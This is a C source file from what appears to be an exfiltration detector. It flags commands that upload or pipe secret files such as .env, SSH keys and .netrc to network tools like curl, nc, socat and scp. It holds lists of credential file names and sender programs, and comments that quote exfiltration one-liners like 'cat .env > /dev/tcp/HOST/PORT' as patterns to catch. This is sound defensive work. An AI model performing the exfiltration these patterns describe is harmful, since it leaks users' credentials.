/* carriers.c - data_exfiltration: a program that sends a file of secrets by name, or takes it from a pipe.
 *
 * Programs read .env and its like all the time, and then talk to the servers that these were written for. What they do
 * not do is to send the file. So what is looked at is the command: an uploader's argument that names the file, and
 * pipes from what reads it to what sends it. Both ends of a pipe are started in any order.
 */
#include "watch/detect.h"

#include "base/encoded.h"
#include "base/path.h"

#include <stdio.h>

static bool is_one_of(const char *word, size_t size, const char *const *list, size_t count)
{
    for (size_t i = 0; i < count; i++)
        if (strlen(list[i]) == size && memcmp(list[i], word, size) == 0)
            return true;
    return false;
}
#define IS_ONE_OF(word, size, list) is_one_of(word, size, list, ARRAY_LEN(list))

static const char *end_of(const char *word)
{
    return word + strcspn(word, (char[]){ WATCH_ARGV_SEPARATOR, '\0' });
}

/* A path whose last part is the usual name of a file of secrets. */
static bool is_secret_path(const char *path, size_t size)
{
    static const char *const names[] = { ".env",     ".env.local",       ".env.production", ".env.prod",
                                         ".netrc",   ".git-credentials", ".npmrc",          ".pypirc",
                                         ".pgpass",  ".vault-token",     "id_rsa",          "id_ed25519",
                                         "id_ecdsa", "shadow",           "credentials",     "service-account.json",
                                         ".my.cnf",  "kubeconfig",       "passwd" };
    size_t base = size;
    while (base && path[base - 1] != '/')
        base--;
    return IS_ONE_OF(path + base, size - base, names);
}

/* The secret file that a word names, behind «@», «=@», «=», «FILE:» or alone: where its path begins, or NULL. at_sign:
 * only behind «@» or «<», as uploads of curl are written. */
static const char *secret_of(const char *word, const char *end, bool at_sign)
{
    const char *path = word;
    if (memchr(word, ' ', (size_t)(end - word)) || memmem(word, (size_t)(end - word), "://", 3))
        return NULL; /* a command or an address */
    for (const char *p = word; p < end; p++)
        if (*p == '@' || *p == '<' || (!at_sign && (*p == '=' || *p == ':')))
            path = p + 1;
    if (at_sign && path == word)
        return NULL;
    size_t size = (size_t)(end - path);
    const char *semicolon = memchr(path, ';', size); /* file=@x;type=text/plain */
    size = semicolon ? (size_t)(semicolon - path) : size;
    return size && is_secret_path(path, size) ? path : NULL;
}

/* What an uploader's options take a file with; the word behind it, or behind «=». */
static bool is_upload_option(const char *word, size_t size)
{
    static const char *const options[] = { "-T",          "--upload-file",      "--post-file",
                                           "--body-file", "--data-binary-file", "--put" };
    for (size_t i = 0; i < ARRAY_LEN(options); i++) {
        const size_t n = strlen(options[i]);
        if (size >= n && memcmp(word, options[i], n) == 0 && (size == n || word[n] == '='))
            return true;
    }
    return false;
}

static const char *const web_clients[] = { "curl", "wget", "http", "https", "xh", "aria2c" };
/* send what stands on their standard input, or in any file that they name */
static const char *const senders[] = { "nc",   "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet",
                                       "ssh",  "scp",  "sftp",   "rsync",      "rclone",         "ftp",   "tftp",
                                       "lftp", "aws",  "gsutil", "s3cmd",      "mail",           "mailx", "sendmail" };
/* copy here, too: what they name goes out where another word is of another host */
static const char *const copiers[] = { "scp", "rsync", "rclone", "aws", "gsutil", "s3cmd" };
/* write what they read to standard output, as it is or encoded */
static const char *const readers[] = { "cat", "base64", "base32", "xxd",     "od",  "hexdump", "gzip",    "bzip2",
                                       "xz",  "zstd",   "tar",    "openssl", "tac", "dd",      "head",    "tail",
                                       "gpg", "zip",    "tee",    "tr",      "rev", "pv",      "uuencode" };

/* The secret file in the arguments that this program sends; or NULL. */
static const char *sent_by(const char *argv, bool is_web, bool is_sender)
{
    bool is_file_next = false;
    for (const char *word = argv; word && *word;) {
        const char *end = end_of(word), *path;
        const size_t size = (size_t)(end - word);
        if (word != argv) {
            const bool is_option = is_web && is_upload_option(word, size);
            path = is_sender || is_file_next || is_option ? secret_of(word, end, false)
                   : is_web                               ? secret_of(word, end, true)
                                                          : NULL;
            /* ssh -i id_rsa, curl --netrc-file: a key that is used */
            if (path && !(is_sender && is_file_next))
                return path;
            is_file_next = is_sender ? size == 2 && memcmp(word, "-i", 2) == 0 : is_option;
        }
        word = *end ? end + 1 : end;
    }
    return NULL;
}

static const char *read_by(const char *argv)
{
    for (const char *word = argv; word && *word;) {
        const char *end = end_of(word), *path = word == argv ? NULL : secret_of(word, end, false);
        if (path)
            return path;
        word = *end ? end + 1 : end;
    }
    return NULL;
}

/* «@-», «-T -», «--post-file=/dev/stdin»: a web client that sends its standard input. */
static bool sends_input(const char *argv)
{
    return argv && (strstr(argv, "@-") || strstr(argv, "-T\x1f-") || strstr(argv, "-T-") || strstr(argv, "<-") ||
                    strstr(argv, "/dev/stdin") || strstr(argv, "/dev/fd/0") || strstr(argv, "/proc/self/fd/0"));
}

static struct shown in_words(const char *path, const char *program)
{
    struct shown s;
    char name[64];
    (void)snprintf(name, sizeof name, "%.*s", (int)MIN_OF((size_t)(end_of(path) - path), sizeof name - 1), path);
    (void)snprintf(s.text, sizeof s.text, "%.50s, by %.30s", shown(name).text, shown(program).text);
    return s;
}

/* What one carrier has, all behind it in the pipeline have. The sender that is reached, or NULL. */
static const struct carrier *spread(struct exfiltration *s)
{
    const uint32_t count = MIN_OF(s->carrier_count, EXFIL_CARRIERS);
    for (bool has_changed = true; has_changed;) {
        has_changed = false;
        for (uint32_t i = 0; i < count; i++)
            for (uint32_t j = 0; j < count; j++) {
                struct carrier *from = &s->carrier[i], *to = &s->carrier[j];
                if (!from->has_secret || to->has_secret || !from->out || from->out != to->in)
                    continue;
                to->has_secret = has_changed = true;
                to->name = from->name;
            }
    }
    for (uint32_t i = 0; i < count; i++)
        if (s->carrier[i].has_secret && s->carrier[i].is_sender)
            return &s->carrier[i];
    return NULL;
}

/* ---- lines of the file among the arguments of a program that sends ---- */

struct sought {
    const struct exfiltration *s;
    bool is_found;
};

static void compare_line(void *context, uint64_t hash)
{
    struct sought *t = context;
    for (uint32_t i = 0; i < MIN_OF(t->s->settings_count, (uint32_t)ARRAY_LEN(t->s->settings_line)); i++)
        t->is_found |= t->s->settings_line[i] && t->s->settings_line[i] == hash;
}

/* «-H X:$(base64 .env)», «-d "$(cat .env)"». One value in its place (a token in a header) is what it is there for, and
 * so may be one «NAME=VALUE»: as it is, a line counts only among others. */
static bool has_lines(const struct exfiltration *s, const char *argv)
{
    struct sought t = { s, false };
    if (!s->settings_count)
        return false;
    encoded_find(argv, strlen(argv), compare_line, &t);
    for (const char *word = argv; *word && !t.is_found;) {
        const char *end = end_of(word), *line = word;
        for (const char *next; (next = memchr(line, '\n', (size_t)(end - line))); line = next + 1) {
            const char *equals = line == word ? memchr(line, '=', (size_t)(next - line)) : NULL;
            compare_line(&t, encoded_hash(line, (size_t)(next - line)));
            if (equals) /* «d=NAME=VALUE» */
                compare_line(&t, encoded_hash(equals + 1, (size_t)(next - equals) - 1));
        }
        if (line != word)
            compare_line(&t, encoded_hash(line, (size_t)(end - line)));
        word = *end ? end + 1 : end;
    }
    return t.is_found;
}

static bool is_settings_file(const struct exfiltration *s, uint64_t inode)
{
    for (uint32_t i = 0; inode && i < MIN_OF(s->settings_count, (uint32_t)ARRAY_LEN(s->settings_id)); i++)
        if (s->settings_id[i] == inode)
            return true;
    return false;
}

bool carriers_feed(struct exfiltration *s, const struct watch_event *e, struct shown *ret)
{
    if (e->error || !e->text || !e->argv)
        return false;
    const char *program = path_last(e->text), *path;
    const size_t size = strlen(program);
    const bool is_web = IS_ONE_OF(program, size, web_clients),
               is_tls = str_eq(program, "openssl") && strstr(e->argv, "s_client"),
               is_sender = is_tls || IS_ONE_OF(program, size, senders), is_reader = IS_ONE_OF(program, size, readers);
    const bool is_local = IS_ONE_OF(program, size, copiers) && !strchr(e->argv, ':');
    if ((is_web || (is_sender && !is_local)) && (path = sent_by(e->argv, is_web, is_sender))) {
        *ret = in_words(path, program);
        return true;
    }
    if ((is_web || is_sender) && !is_local && has_lines(s, e->argv)) {
        *ret = in_words(s->settings.text, program);
        return true;
    }
    path = is_reader ? read_by(e->argv) : NULL;
    const bool is_settings = e->stdio0 == WATCH_FD_FILE && is_settings_file(s, e->stdio_id0);
    const bool has_secret = path || is_settings;
    /* cat .env > /dev/tcp/HOST/PORT; nc HOST PORT < .env */
    if (has_secret &&
        (e->stdio1 == WATCH_FD_INET || (is_settings && (is_sender || (is_web && sends_input(e->argv)))))) {
        *ret = in_words(path ? path : s->settings.text, program);
        return true;
    }
    if (e->stdio0 != WATCH_FD_PIPE && e->stdio1 != WATCH_FD_PIPE)
        return false;
    struct carrier *c = &s->carrier[s->carrier_count++ % EXFIL_CARRIERS];
    *c = (struct carrier){ .in = e->stdio0 == WATCH_FD_PIPE ? e->stdio_id0 : 0,
                           .out = e->stdio1 == WATCH_FD_PIPE ? e->stdio_id1 : 0,
                           .has_secret = has_secret,
                           .is_sender = e->stdio1 == WATCH_FD_INET || is_sender || (is_web && sends_input(e->argv)) };
    if (has_secret)
        c->name = in_words(path ? path : s->settings.text, program);
    const struct carrier *reached = spread(s);
    if (reached)
        *ret = reached->name;
    return reached != NULL;
}
